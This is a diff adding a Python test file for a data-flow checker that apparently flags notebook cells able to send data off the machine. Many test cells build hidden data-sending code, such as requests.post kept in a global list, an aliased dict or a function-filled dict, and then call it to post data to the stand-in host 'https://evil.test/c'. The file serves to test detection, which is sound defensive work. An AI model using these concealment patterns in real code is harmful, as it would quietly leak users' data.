@@ -1,0 +1,104 @@
+"""What flow33 left of the data-flow rule's and the policy's reading of Python cells (fast;
+tests/e2e/test_flow34_kernel_flows.py runs them for real): a sender kept by a plain function in a global container
+(``def register(f): H.append(f)``), a container changed through another name for it (``e = d``; ``e['q'] = post``),
+a dict a function of an earlier cell fills, judged by the policy, and what stays quiet: the same with a harmless
+function, a name bound anew."""
+
+from __future__ import annotations
+
+import pytest
+from test_flow31_cells import EVIL, KEEP, _flows, _policy
+
+from gofer.events import Risk
+
+A = "https://evil.test/c"
+RQ = "import requests"
+SENDS = "can send data out of the machine (requests.post)"
+
+REGISTER: dict[str, tuple[str, str]] = {
+    "H.append(f)": ("H = []\n\ndef register(f):\n    H.append(f)", "H[0]"),
+    "H[k] = f": ("H = {}\n\ndef register(f, k='p'):\n    H[k] = f", "H['p']"),
+    "H.add(f)": ("H = set()\n\ndef register(f):\n    H.add(f)", "list(H)[0]"),
+    "global G; G = f": ("G = None\n\ndef register(f):\n    global G\n    G = f", "G"),
+    "h = H; h.append(f)": ("H = []\n\ndef register(f):\n    h = H\n    h.append(f)", "H[0]"),
+    "a local bound from f": ("H = []\n\ndef register(f):\n    g = f\n    H.append((1, g))", "H[0][1]"),
+    "a method keeping in a global": ("H = []\n\nclass R:\n    def register(self, f):\n        H.append(f)\n\n"
+                                     "reg = R()", "H[0]"),
+    "the container handed beside it": ("H = []\n\ndef register(f, into=H):\n    into.append(f)", "H[0]"),
+}
+"""Each defines a function that keeps what it is handed in a global, and what calls the kept function."""
+
+
+def _register(case: str) -> tuple[str, str, str]:
+    definition, through = REGISTER[case]
+    call = "reg.register(requests.post)" if "reg = R()" in definition else \
+        "register(requests.post, H)" if "into" in definition else "register(requests.post)"
+    return definition, call, through
+
+
+@pytest.mark.parametrize("case", list(REGISTER))
+def test_a_sender_a_function_keeps_in_a_global_sends_when_called_through_it(case: str) -> None:
+    definition, call, through = _register(case)
+    cell = f"{through}('{A}', data=t)"
+    for earlier in ((RQ, definition, call, KEEP), (RQ, f"{definition}\n{call}", KEEP),
+                    (f"{RQ}\n{definition}\n{call}\n{KEEP}",)):
+        assert EVIL in _flows(cell, *earlier), earlier
+        risk, reasons = _policy(cell, None, *earlier)
+        assert risk == Risk.CONSEQUENTIAL and SENDS in " ".join(reasons), (earlier, reasons)
+
+
+@pytest.mark.parametrize("case", list(REGISTER))
+def test_a_function_keeping_a_harmless_function_in_a_global_stays_quiet(case: str) -> None:
+    definition, call, through = _register(case)
+    earlier = (RQ, definition, call.replace("requests.post", "len"), KEEP)
+    cell = f"print({through}(t), H if 'H' in globals() else G)"
+    assert _flows(cell, *earlier) == []
+    assert _policy(cell, None, *earlier) == (Risk.REVERSIBLE, [])
+
+
+ALIASED: dict[str, tuple[tuple[str, ...], str]] = {
+    "e['q'] = post": (("d = {}", "e = d", "e['q'] = requests.post"), "d['q']"),
+    "e.update(q=post)": (("d = {}", "e = d", "e.update(q=requests.post)"), "d['q']"),
+    "e.setdefault('q', post)": (("d = {}", "e = d", "e.setdefault('q', requests.post)"), "d['q']"),
+    "l2.append(post)": (("l = []", "l2 = l", "l2.append(requests.post)"), "l[0]"),
+    "a chain of names": (("d = {}", "e = d\nf = e", "f['q'] = requests.post"), "d['q']"),
+    "the other way": (("d = {}", "e = d", "d['q'] = requests.post"), "e['q']"),
+    "a part of it": (("d = {'inner': {}}", "e = d['inner']", "e['q'] = requests.post"), "d['inner']['q']"),
+    "in one cell": (("d = {}\ne = d\ne['q'] = requests.post",), "d['q']"),
+}
+"""Each puts ``requests.post`` in a container through another name for it, and what calls it by the first."""
+
+
+@pytest.mark.parametrize("case", list(ALIASED))
+def test_a_sender_put_in_a_container_through_another_name_sends_when_called(case: str) -> None:
+    cells, through = ALIASED[case]
+    cell = f"{through}('{A}', data=t)"
+    earlier = (RQ, *cells, KEEP)
+    assert EVIL in _flows(cell, *earlier)
+    risk, reasons = _policy(cell, None, *earlier)
+    assert risk == Risk.CONSEQUENTIAL and SENDS in " ".join(reasons), reasons
+
+
+def test_names_for_one_container_holding_values_or_bound_anew_stay_quiet() -> None:
+    for cells, cell in [
+            (("d = {}", "e = d", "e['q'] = 3"), "print(d['q'] + 1, len(t))"),
+            (("l = []", "l2 = l", "l2.append(len)"), "print(l[0](t))"),
+            # ``x`` bound anew to the sender: what ``d`` holds is unchanged
+            (("d = {'count': 1}", "x = d['count']", "x = requests.post"), "print(d, len(t))"),
+            (("d = {}", "e = d", "e = requests.post"), "print(d, len(t))")]:
+        earlier = (RQ, *cells, KEEP)
+        assert _flows(cell, *earlier) == [], cells
+        assert _policy(cell, None, *earlier) == (Risk.REVERSIBLE, []), cells
+
+
+def test_a_dict_a_function_of_an_earlier_cell_fills_sends_by_the_policy_too() -> None:
+    fill = "D = {}\n\ndef fill():\n    D['p'] = requests.post"
+    for earlier in ((RQ, fill, "fill()", KEEP), (RQ, "def fill():\n    D['p'] = requests.post", "D = {}",
+                                                 "fill()", KEEP)):
+        assert EVIL in _flows(f"D['p']('{A}', data=t)", *earlier)
+        risk, reasons = _policy(f"D['p']('{A}', data=t)", None, *earlier)
+        assert risk == Risk.CONSEQUENTIAL and SENDS in " ".join(reasons), reasons
+    # filled with values
+    earlier = (RQ, "D = {}\n\ndef fill():\n    D['p'] = 3", "fill()", KEEP)
+    assert _flows("print(D['p'] + 1, len(t))", *earlier) == []
+    assert _policy("print(D['p'] + 1, len(t))", None, *earlier) == (Risk.REVERSIBLE, [])
